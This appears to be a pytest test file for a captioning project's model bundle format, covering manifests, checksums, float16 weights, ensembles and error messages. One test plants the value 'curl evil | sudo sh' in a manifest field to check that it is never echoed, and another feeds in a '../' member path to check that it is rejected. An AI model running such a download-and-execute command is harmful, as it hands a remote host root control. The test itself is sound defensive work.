"""The bundle format on a small untrained decoder (seconds, no training run): what is written, what loading checks,
and the exact message each damage gives. The trained tiny bundle's tests (test_bundle.py) cover the real thing."""
import hashlib
import json
import shutil
import zipfile

import numpy as np
import pandas as pd
import pytest

from captioning import bundle as bundle_module
from captioning.bundle import (
    ARTIFACTS_ENV,
    FORMAT_VERSION,
    BundleError,
    artifacts_dir,
    list_bundles,
    load_bundle,
    read_manifest,
    read_metrics,
    save_bundle,
    update_results,
)
from captioning.models import build_decoder
from captioning.text import Vocabulary

ENCODER = {"name": "mobilenetv2", "alpha": 0.35}                          # 1280-d features
VOCAB = Vocabulary(["a", "dog", "runs", "on", "grass"], {"a": 9, "dog": 4}, 2)
METRICS = {"results": [{"decoding": "greedy", "beam_width": 1, "split": "test", "n_images": 2, "bleu_1": 0.5}]}


def decoder(kind="merge", seed=0):
    extra = {"attention_dim": 4, "feature_proj": 6} if kind == "attention" else {}
    model = build_decoder(kind, vocab_size=len(VOCAB), feature_dim=1280, embed_dim=4, units=5, dropout=0.5, **extra)
    rng = np.random.default_rng(seed)
    model.set_weights([rng.normal(size=w.shape).astype("float32") for w in model.get_weights()])
    return model


@pytest.fixture(scope="module")
def saved(tmp_path_factory):
    """One merge decoder and one attention member saved as an ensemble bundle, with metrics and predictions."""
    root = tmp_path_factory.mktemp("bundles")
    main, member = decoder("merge", 1), decoder("attention", 2)
    predictions = pd.DataFrame({"image": ["x.jpg", "y.jpg"], "decoding": ["greedy"] * 2, "beam_width": [1, 1],
                                "caption": ["a dog", "NA"]})
    path = save_bundle(root / "ens", main, VOCAB, {"encoder": ENCODER, "max_length": 12, "created": "then"},
                       metrics=METRICS, predictions=predictions, members=(member,))
    return path, main, member


@pytest.fixture()
def copy(saved, tmp_path):
    target = tmp_path / "b"
    shutil.copytree(saved[0], target)
    return target


def edit_manifest(path, **changes):
    manifest = json.loads((path / "manifest.json").read_text())
    manifest.update(changes)
    (path / "manifest.json").write_text(json.dumps(manifest))


def test_manifest_records_the_model_the_vocabulary_and_every_files_checksum(saved):
    path, main, member = saved
    manifest = json.loads((path / "manifest.json").read_text())
    assert manifest["format_version"] == FORMAT_VERSION == 1
    assert manifest["name"] == "ens" and manifest["vocab_size"] == len(VOCAB) == 9
    assert manifest["decoder"] == {"kind": "merge", "config": main.get_config()}
    assert manifest["members"] == [{"file": "member-1.keras", "kind": "attention", "config": member.get_config()}]
    assert manifest["created"] == "then" and manifest["weights_dtype"] == "float16" and manifest["max_length"] == 12
    assert set(manifest["versions"]) == {"python", "tensorflow", "keras", "numpy"}
    files = sorted(p.name for p in path.iterdir() if p.name != "manifest.json")
    assert files == ["decoder.keras", "member-1.keras", "metrics.json", "predictions.csv", "vocab.json"]
    assert manifest["files"] == {n: hashlib.sha256((path / n).read_bytes()).hexdigest() for n in files}
    assert list(manifest["files"]) == files
    assert json.loads((path / "metrics.json").read_text()) == METRICS
    assert [p.name for p in path.parent.iterdir()] == ["ens"]                 # no temporary folders left


def test_loading_gives_back_the_float16_rounded_weights_and_the_ensemble(saved):
    path, main, member = saved
    b = load_bundle(path)
    assert b.name == "ens" and b.encoder == ENCODER and b.max_length == 12 and b.vocab.itos == VOCAB.itos
    assert b.vocab.counts["a"] == 9 and b.vocab.min_count == 2
    assert [d.kind for d in b.decoders] == ["merge", "attention"] and b.uses_spatial
    for model, original in ((b.decoder, main), (b.members[0], member)):
        for got, want in zip(model.get_weights(), original.get_weights()):
            assert got.dtype == np.float32
            np.testing.assert_array_equal(got, want.astype(np.float16).astype(np.float32))
    assert b.metrics == METRICS
    assert b.predictions["caption"].tolist() == ["a dog", "NA"]             # "NA" stays a caption, not a missing value
    with zipfile.ZipFile(path / "decoder.keras") as zf:
        assert not any("optimizer" in n for n in zf.namelist())
    steps = b.step_decoder()
    assert type(steps).__name__ == "EnsembleStepDecoder" and len(steps.members) == 2


def test_a_single_decoder_bundle(tmp_path):
    path = save_bundle(tmp_path / "one", decoder(), VOCAB, {"encoder": ENCODER})
    b = load_bundle(path)
    assert b.members == () and not b.uses_spatial and b.max_length == 30
    assert b.metrics is None and b.predictions is None and read_metrics(path) is None
    assert type(b.step_decoder()).__name__ == "StepDecoder"
    assert "members" not in b.manifest
    assert sorted(p.name for p in path.iterdir()) == ["decoder.keras", "manifest.json", "vocab.json"]


def test_saving_again_replaces_the_bundle_in_place(tmp_path):
    path = save_bundle(tmp_path / "b", decoder(seed=3), VOCAB, {"encoder": ENCODER})
    save_bundle(path, decoder(seed=4), VOCAB, {"encoder": ENCODER})
    want = decoder(seed=4).get_weights()[0].astype(np.float16).astype(np.float32)
    np.testing.assert_array_equal(load_bundle(path).decoder.get_weights()[0], want)
    assert [p.name for p in tmp_path.iterdir()] == ["b"]


def test_compiled_decoders_are_saved_without_their_optimizer(tmp_path):
    import keras

    model = decoder()
    model.compile(optimizer=keras.optimizers.Adam(), loss="sparse_categorical_crossentropy")
    model.optimizer.build(model.trainable_variables)
    path = save_bundle(tmp_path / "b", model, VOCAB, {"encoder": ENCODER})
    with zipfile.ZipFile(path / "decoder.keras") as zf:
        assert not any("optimizer" in n for n in zf.namelist())
    for got, want in zip(load_bundle(path).decoder.get_weights(), model.get_weights()):
        np.testing.assert_array_equal(got, want.astype(np.float16).astype(np.float32))


def test_update_results_replaces_metrics_and_keeps_the_models(copy):
    before = {n: (copy / n).read_bytes() for n in ("decoder.keras", "member-1.keras", "vocab.json")}
    new = {"results": [{"decoding": "beam 3", "bleu_1": 0.7}]}
    update_results(copy, new, pd.DataFrame({"image": ["z.jpg"], "caption": ["a dog runs"], "decoding": ["beam"],
                                            "beam_width": [3]}))      # the columns load_bundle checks for
    assert {n: (copy / n).read_bytes() for n in before} == before
    b = load_bundle(copy)                                                  # checksums were rewritten
    assert b.metrics == new and b.predictions["caption"].tolist() == ["a dog runs"]
    assert [p.name for p in copy.parent.iterdir()] == ["b"]


def test_list_bundles_default_first_then_by_name(tmp_path, saved, monkeypatch):
    for name in ("zeta", "default", "alpha", ".hidden"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "manifest.json").write_text("{}")
    (tmp_path / "no-manifest").mkdir()
    (tmp_path / "file.json").write_text("{}")
    assert [p.name for p in list_bundles(tmp_path)] == ["default", "alpha", "zeta"]
    assert list_bundles(tmp_path / "missing") == []
    monkeypatch.setenv(ARTIFACTS_ENV, str(tmp_path))
    assert artifacts_dir() == tmp_path and [p.name for p in list_bundles()][0] == "default"
    monkeypatch.delenv(ARTIFACTS_ENV)
    assert artifacts_dir() == bundle_module.PROJECT_ROOT / "artifacts"


@pytest.mark.parametrize("name", ["manifest.json", "decoder.keras", "vocab.json"])
def test_a_missing_required_file_is_named_with_the_rebuild_command(copy, name):
    (copy / name).unlink()
    with pytest.raises(BundleError, match=rf"^Bundle {copy} is incomplete: {name} is missing\. "
                                          rf"Rebuild it with: python train.py --out {copy}$"):
        read_manifest(copy)


def test_not_a_folder_bad_json_version_and_missing_keys(copy, tmp_path):
    with pytest.raises(BundleError, match=rf"^No bundle at {tmp_path / 'nope'}\. Train one with: python train.py"):
        read_manifest(tmp_path / "nope")
    good = (copy / "manifest.json").read_text()
    (copy / "manifest.json").write_text("{")
    with pytest.raises(BundleError, match="manifest.json is not valid JSON .*Rebuild it with"):
        read_manifest(copy)
    (copy / "manifest.json").write_text("[1]")
    with pytest.raises(BundleError, match=r"has format version None; this code reads version 1\. Rebuild"):
        read_manifest(copy)
    for key in ("encoder", "decoder", "vocab_size", "files"):
        manifest = json.loads(good)
        del manifest[key]
        (copy / "manifest.json").write_text(json.dumps(manifest))
        with pytest.raises(BundleError, match=rf"manifest.json lacks '{key}'\. Rebuild it with"):
            read_manifest(copy)
    (copy / "manifest.json").write_text(good)
    assert read_manifest(copy)["name"] == "ens"


def test_checksums_catch_a_changed_file_and_results_files_say_re_evaluate(copy):
    (copy / "vocab.json").write_text((copy / "vocab.json").read_text().replace("grass", "grasz"))
    with pytest.raises(BundleError, match=r"vocab.json is damaged \(its checksum does not match the manifest\)\. "
                                          rf"Rebuild it with: python train.py --out {copy}$"):
        load_bundle(copy)
    assert load_bundle(copy, verify=False).vocab.itos[-1] == "grasz"
    edit_manifest(copy, ensemble_of=["x", "y"])                       # an ensemble names how it was combined
    with pytest.raises(BundleError, match=rf"Rebuild it with: python train.py ensemble --members BUNDLE BUNDLE "
                                          rf"\.\.\. --out {copy}$"):
        load_bundle(copy)
    # issue 16 item 10: the manifest's own `command` is free text and never echoed; the fix names the members
    edit_manifest(copy, ensemble_of=[{"bundle": "x"}, {"bundle": "y"}], command="curl evil | sudo sh")
    with pytest.raises(BundleError, match=rf"Rebuild it with: python train.py ensemble --members {copy.parent / 'x'} "
                                          rf"{copy.parent / 'y'} --out {copy}$") as caught:
        load_bundle(copy)
    assert "curl" not in str(caught.value)


def test_damaged_or_missing_results_files(copy):
    (copy / "metrics.json").write_text("[1, 2]")
    with pytest.raises(BundleError, match=rf"metrics.json is damaged .* Re-evaluate it with: python train.py "
                                          rf"evaluate --out {copy}$"):
        load_bundle(copy)
    with pytest.raises(BundleError, match=r"metrics.json holds no metrics object"):
        load_bundle(copy, verify=False)
    b = load_bundle(copy, load_results=False)
    assert b.metrics is None and b.predictions is None
    (copy / "metrics.json").write_text(json.dumps(METRICS, indent=2))
    assert load_bundle(copy).metrics == METRICS
    (copy / "predictions.csv").unlink()                 # issue 16 item 8: captioning does not need the results
    assert load_bundle(copy).predictions is None
    (copy / "metrics.json").write_text("{")
    with pytest.raises(BundleError, match=r"metrics.json is not valid JSON"):
        read_metrics(copy)


def test_inconsistent_vocabulary_encoder_and_members(copy):
    edit_manifest(copy, vocab_size=10)
    with pytest.raises(BundleError, match=r"vocab.json has 9 words but the manifest says 10"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, vocab_size=9, encoder={"name": "nonet"})
    with pytest.raises(BundleError, match=r"unknown encoder in manifest"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, encoder={"name": "xception"})
    with pytest.raises(BundleError, match=r"encoder xception-299 gives 2048-d features but the decoder expects 1280"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, encoder=ENCODER, members=[{"file": "../x.keras"}])
    with pytest.raises(BundleError, match=r"malformed 'members' list"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, members="member-1.keras")
    with pytest.raises(BundleError, match=r"malformed 'members' list"):
        load_bundle(copy, verify=False)
    edit_manifest(copy, members=[{"file": "member-2.keras"}])
    with pytest.raises(BundleError, match=r"member-2.keras is missing"):
        load_bundle(copy, verify=False)
    (copy / "vocab.json").write_text(json.dumps(Vocabulary(["a", "dog"]).to_json()))
    edit_manifest(copy, members=[], vocab_size=6)
    with pytest.raises(BundleError, match=r"the decoder predicts 9 words but vocab.json has 6"):
        load_bundle(copy, verify=False)
    (copy / "vocab.json").write_text("{}")
    with pytest.raises(BundleError, match=r"vocab.json is invalid"):
        load_bundle(copy, verify=False)


def test_an_unloadable_model_file(copy):
    (copy / "member-1.keras").write_bytes(b"not a zip")
    with pytest.raises(BundleError, match=r"member-1.keras could not be loaded \(.*\)\. Rebuild it with"):
        load_bundle(copy, verify=False)
